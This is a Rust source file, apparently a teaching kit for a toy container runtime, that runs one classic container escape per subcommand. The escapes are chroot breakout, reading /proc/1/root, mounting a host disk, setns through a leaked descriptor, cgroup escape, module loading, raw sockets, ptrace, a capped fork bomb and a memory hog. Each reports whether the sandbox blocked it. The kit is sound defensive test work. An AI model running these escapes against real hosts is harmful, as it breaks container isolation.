//! The escape kit: classic ways out of a container, one per subcommand.
//!
//! Each attempt prints one line and exits: `ESCAPED: what it got` (exit 0),
//! or `BLOCKED: what stopped it` (exit 1). `UNTESTABLE: why` (exit 3) means
//! this kernel offers nothing to escape to (no loadable modules, say).
//! The checker runs every attempt twice: inside mini-docker, where it must
//! be BLOCKED, and in a deliberately unhardened run, where it must ESCAPE,
//! or the attempt would prove nothing. Chapter 10 walks through each one.

use std::ffi::CString;
use std::fs;
use std::io::{Read, Write};
use std::os::fd::{BorrowedFd, RawFd};
use std::path::Path;
use std::process::ExitCode;

use nix::errno::Errno;
use nix::mount::{mount, umount, MsFlags};
use nix::sched::CloneFlags;
use nix::sys::stat::{makedev, mknod, Mode, SFlag};
use nix::unistd::{chdir, chroot, fork, ForkResult, Pid};

/// What an attempt found.
enum Verdict {
    Escaped(String),
    Blocked(String),
    Untestable(String),
}
use Verdict::{Blocked, Escaped, Untestable};

const USAGE: &str = "usage: escape ATTEMPT [ARGS]
  chroot-breakout MARKER      mkdir x; chroot x; cd ../../..; chroot . ; is the host's MARKER there?
  proc-root PID MARKER        read MARKER through /proc/PID/root (PID 1's, classically)
  mount-disk MAJOR MINOR      mknod the host's block device, mount it
  write-sysctl                write /proc/sys/kernel/hostname
  setns-fd FD NAMESPACE       setns() through an inherited descriptor; land in NAMESPACE?
  cgroup-escape               mount the cgroup filesystem, move to its root cgroup
  load-module                 init_module() a (bogus) kernel module
  raw-socket                  open an AF_PACKET socket: see every frame
  ptrace PID                  attach to PID with ptrace
  fork-bomb COUNT             have COUNT processes at once
  memory-hog MIB              touch MIB mebibytes of memory
  set-time                    adjust the host's clock (by 0 microseconds)
  new-userns                  unshare a new user namespace
  start-thread                not an escape: start a thread (glibc tries clone3 first)";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let verdict = match args.as_slice() {
        ["chroot-breakout", marker] => chroot_breakout(marker),
        ["proc-root", pid, marker] => proc_root(pid, marker),
        ["mount-disk", major, minor] => mount_disk(major, minor),
        ["write-sysctl"] => write_sysctl(),
        ["setns-fd", fd, namespace] => setns_fd(fd, namespace),
        ["cgroup-escape"] => cgroup_escape(),
        ["load-module"] => load_module(),
        ["raw-socket"] => raw_socket(),
        ["ptrace", pid] => ptrace(pid),
        ["fork-bomb", count] => fork_bomb(count),
        ["memory-hog", mib] => memory_hog(mib),
        ["set-time"] => set_time(),
        ["new-userns"] => new_user_namespace(),
        ["start-thread"] => return start_thread(),
        _ => {
            eprintln!("{USAGE}");
            return ExitCode::from(2);
        }
    };
    let (word, text, code) = match verdict {
        Escaped(text) => ("ESCAPED", text, 0),
        Blocked(text) => ("BLOCKED", text, 1),
        Untestable(text) => ("UNTESTABLE", text, 3),
    };
    println!("{word}: {text}");
    let _ = std::io::stdout().flush();
    ExitCode::from(code)
}

/// "BLOCKED: STEP: error description" for a failed system call.
fn blocked(step: &str, errno: Errno) -> Verdict {
    Blocked(format!("{step}: {errno}"))
}

/// chroot(2) moves the root but not the working directory: after
/// chroot("x") the cwd is above the new root, ".." walks freely up to the
/// real root, and chroot(".") makes that the root. pivot_root and a
/// detached old root leave nothing above "/" to walk to.
fn chroot_breakout(marker: &str) -> Verdict {
    let dir = "/tmp/escape-chroot";
    if let Err(err) = fs::create_dir_all(dir) {
        return Blocked(format!("mkdir {dir}: {err}"));
    }
    if let Err(errno) = chroot(dir) {
        return blocked("chroot", errno);
    }
    for _ in 0..64 {
        let _ = chdir("..");
    }
    if let Err(errno) = chroot(".") {
        return blocked("chroot .", errno);
    }
    let _ = chdir("/");
    match Path::new(marker).exists() {
        true => Escaped(format!("after the breakout {marker}, a host file, is readable: / is the host's")),
        false => Blocked(format!("the breakout only reached the container's own / (no {marker} there)")),
    }
}

/// /proc/PID/root is PID's root directory. With the host's processes in
/// view, /proc/1/root is the host's "/"; in a PID namespace PID 1 is the
/// container's own, and no host PID is there.
fn proc_root(pid: &str, marker: &str) -> Verdict {
    let path = format!("/proc/{pid}/root{marker}");
    match fs::metadata(&path) {
        Ok(_) => Escaped(format!("{path} is readable: PID {pid} is a host process and its root the host's /")),
        Err(err) => Blocked(format!("{path}: {err} (PID {pid} here is no host process)")),
    }
}

/// A block device node can be made anywhere with mknod(2); mounting it
/// gives the disk's files, whatever the container's root is.
fn mount_disk(major: &str, minor: &str) -> Verdict {
    let (Ok(major), Ok(minor)) = (major.parse(), minor.parse()) else { return Untestable("MAJOR and MINOR must be numbers".into()) };
    let node = "/tmp/escape-disk";
    let target = "/tmp/escape-disk-files";
    let _ = fs::remove_file(node);
    if let Err(errno) = mknod(node, SFlag::S_IFBLK, Mode::from_bits_truncate(0o600), makedev(major, minor)) {
        return blocked("mknod of the host's disk", errno);
    }
    let _ = fs::create_dir_all(target);
    if let Err(errno) = mount(Some(node), target, Some("ext2"), MsFlags::MS_RDONLY, None::<&str>) {
        return blocked(&format!("mount {node} (block device {major}:{minor})"), errno);
    }
    let seen = fs::read_dir(target).map(|d| d.count()).unwrap_or(0);
    let _ = umount(target);
    Escaped(format!("mounted the host's disk {major}:{minor}: {seen} entries at its top"))
}

/// Most of /proc/sys is the whole host's: kernel.core_pattern, for one,
/// names a program the host runs as root on a crash. Writes hostname's own
/// value back, to be harmless wherever it runs.
fn write_sysctl() -> Verdict {
    let path = "/proc/sys/kernel/hostname";
    let current = fs::read_to_string(path).unwrap_or_default();
    match fs::OpenOptions::new().write(true).open(path).and_then(|mut f| f.write_all(current.as_bytes())) {
        Ok(()) => Escaped(format!("wrote {path}: the kernel's settings under /proc/sys are writable")),
        Err(err) => Blocked(format!("writing {path}: {err}")),
    }
}

/// A descriptor opened on the host and inherited by the container (runc's
/// CVE-2024-21626 leaked one) can name a host namespace: setns(2) joins it.
fn setns_fd(fd: &str, namespace: &str) -> Verdict {
    let Ok(fd) = fd.parse::<RawFd>() else { return Untestable("FD must be a number".into()) };
    if nix::fcntl::fcntl(unsafe { BorrowedFd::borrow_raw(fd) }, nix::fcntl::FcntlArg::F_GETFD).is_err() {
        return Blocked(format!("descriptor {fd} is not open here: it was closed before the command ran"));
    }
    // SAFETY: fd is open (checked above); setns only reads it.
    if let Err(errno) = nix::sched::setns(unsafe { BorrowedFd::borrow_raw(fd) }, CloneFlags::empty()) {
        return blocked(&format!("setns through descriptor {fd}"), errno);
    }
    let now = fs::read_link("/proc/self/ns/net").map(|l| l.display().to_string()).unwrap_or_default();
    match now == namespace {
        true => Escaped(format!("joined the host's network namespace {namespace} through descriptor {fd}")),
        false => Blocked(format!("setns worked but landed in {now}, not the host's {namespace}")),
    }
}

/// With the cgroup filesystem mounted, writing 0 (itself) to the root
/// cgroup's cgroup.procs takes a process out of every limit.
fn cgroup_escape() -> Verdict {
    let target = "/tmp/escape-cgroup";
    let _ = fs::create_dir_all(target);
    // On cgroup v1 the pids controller has a hierarchy of its own.
    let v1 = own_cgroup_line("pids").is_some();
    let mounted = if v1 {
        mount(Some("cgroup"), target, Some("cgroup"), MsFlags::empty(), Some("pids"))
    } else {
        mount(Some("cgroup2"), target, Some("cgroup2"), MsFlags::empty(), None::<&str>)
    };
    if let Err(errno) = mounted {
        return blocked("mounting the cgroup filesystem", errno);
    }
    let moved = fs::write(format!("{target}/cgroup.procs"), "0");
    let _ = umount(target);
    if let Err(err) = moved {
        return Blocked(format!("writing to the root cgroup's cgroup.procs: {err}"));
    }
    let line = own_cgroup_line(if v1 { "pids" } else { "" }).unwrap_or_default();
    match line.ends_with(":/") {
        true => Escaped(format!("moved itself to the root cgroup ({line}): no limit applies any more")),
        false => Blocked(format!("still in {line}")),
    }
}

/// This process's line of /proc/self/cgroup for `controller` ("" is v2's).
fn own_cgroup_line(controller: &str) -> Option<String> {
    let text = fs::read_to_string("/proc/self/cgroup").ok()?;
    text.lines()
        .find(|l| {
            let controllers = l.split(':').nth(1).unwrap_or("-");
            if controller.is_empty() { controllers.is_empty() } else { controllers.split(',').any(|c| c == controller) }
        })
        .map(str::to_string)
}

/// init_module(2) with bytes that are no module: the kernel checks
/// CAP_SYS_MODULE first, then rejects the contents. Past the first check,
/// a real module would load and run as the kernel.
fn load_module() -> Verdict {
    let image = b"not a kernel module";
    let params = CString::default();
    // SAFETY: a pointer and length of a live buffer, and a C string.
    let result = unsafe { libc::syscall(libc::SYS_init_module, image.as_ptr(), image.len(), params.as_ptr()) };
    match Errno::result(result) {
        Err(Errno::EPERM) => blocked("init_module", Errno::EPERM),
        Err(Errno::ENOSYS) => Untestable("this kernel cannot load modules at all (built without CONFIG_MODULES)".into()),
        Err(errno) => Escaped(format!("the kernel read our module and refused only its contents ({errno}): a real one would load")),
        Ok(_) => Escaped("the kernel loaded it".into()),
    }
}

/// An AF_PACKET raw socket receives every frame on every interface in
/// view, other containers' traffic on a shared bridge included. It needs
/// CAP_NET_RAW.
fn raw_socket() -> Verdict {
    let all_protocols = (libc::ETH_P_ALL as u16).to_be() as libc::c_int;
    // SAFETY: plain socket(2); the descriptor is closed right after.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, all_protocols) };
    if fd < 0 {
        return blocked("socket(AF_PACKET, SOCK_RAW)", Errno::last());
    }
    unsafe { libc::close(fd) };
    Escaped("opened an AF_PACKET raw socket: every frame in view can be read".into())
}

/// ptrace(2) reads and writes another process's memory and registers:
/// attached to a host process, a container runs code as that process.
fn ptrace(pid: &str) -> Verdict {
    let Ok(pid) = pid.parse::<libc::pid_t>() else { return Untestable("PID must be a number".into()) };
    let null = std::ptr::null_mut::<libc::c_void>();
    // SAFETY: PTRACE_ATTACH and PTRACE_DETACH take no pointers.
    if unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, null, null) } < 0 {
        return blocked(&format!("ptrace(PTRACE_ATTACH, {pid})"), Errno::last());
    }
    let _ = nix::sys::wait::waitpid(Pid::from_raw(pid), Some(nix::sys::wait::WaitPidFlag::__WALL));
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, null, null) };
    Escaped(format!("attached to process {pid} with ptrace (and let it go)"))
}

/// `:(){ :|:& };:` with a ceiling: tries to have COUNT processes alive at
/// once. The pids controller makes fork(2) fail with EAGAIN at the limit.
fn fork_bomb(count: &str) -> Verdict {
    let Ok(count) = count.parse::<usize>() else { return Untestable("COUNT must be a number".into()) };
    let mut children = Vec::new();
    let verdict = loop {
        if children.len() + 1 >= count {
            break Escaped(format!("{count} processes at once: nothing stopped the bomb"));
        }
        // SAFETY: the child only sleeps until it is killed.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => loop {
                nix::unistd::pause();
            },
            Ok(ForkResult::Parent { child }) => children.push(child),
            Err(errno) => break blocked(&format!("fork number {}", children.len() + 1), errno),
        }
    };
    for child in &children {
        let _ = nix::sys::signal::kill(*child, nix::sys::signal::Signal::SIGKILL);
        let _ = nix::sys::wait::waitpid(*child, None);
    }
    verdict
}

/// Touches every page of MIB mebibytes. Past the memory limit the kernel's
/// OOM killer ends the process: no verdict is printed, the exit is 137.
fn memory_hog(mib: &str) -> Verdict {
    let Ok(mib) = mib.parse::<usize>() else { return Untestable("MIB must be a number".into()) };
    let mut memory: Vec<u8> = Vec::new();
    for _ in 0..mib {
        // Written, not only allocated: untouched pages cost nothing.
        memory.extend(std::iter::repeat_n(1u8, 1 << 20));
    }
    let mut sink = [0u8; 1];
    let _ = (&memory[memory.len() / 2..]).read(&mut sink);
    Escaped(format!("touched {mib} MiB: no memory limit stopped it"))
}

/// The clock is not namespaced: adjtime(3) slews the host's. By 0
/// microseconds here, which the kernel guards exactly like a real change
/// (CAP_SYS_TIME in the initial user namespace).
fn set_time() -> Verdict {
    let zero = libc::timeval { tv_sec: 0, tv_usec: 0 };
    // SAFETY: a valid timeval; the old value is not asked for.
    if unsafe { libc::adjtime(&zero, std::ptr::null_mut()) } < 0 {
        return blocked("adjtime", Errno::last());
    }
    Escaped("the host's clock took an adjustment (of 0 µs)".into())
}

/// Not an escape: glibc's pthread_create calls clone3(2) and falls back to
/// clone(2) only when told ENOSYS. A filter that answers EPERM instead
/// breaks every threaded program; busybox has no threads to notice.
fn start_thread() -> ExitCode {
    match std::thread::Builder::new().spawn(|| 6 * 7).map(|t| t.join()) {
        Ok(Ok(42)) => {
            println!("a thread started");
            ExitCode::SUCCESS
        }
        Ok(_) => ExitCode::FAILURE,
        Err(err) => {
            println!("no thread: {err}");
            ExitCode::FAILURE
        }
    }
}

/// In a new user namespace a process has every capability again, over
/// objects that namespace owns: much more kernel code within reach.
fn new_user_namespace() -> Verdict {
    match nix::sched::unshare(CloneFlags::CLONE_NEWUSER) {
        Ok(()) => Escaped("made a new user namespace: every capability again, inside it".into()),
        Err(errno) => blocked("unshare(CLONE_NEWUSER)", errno),
    }
}
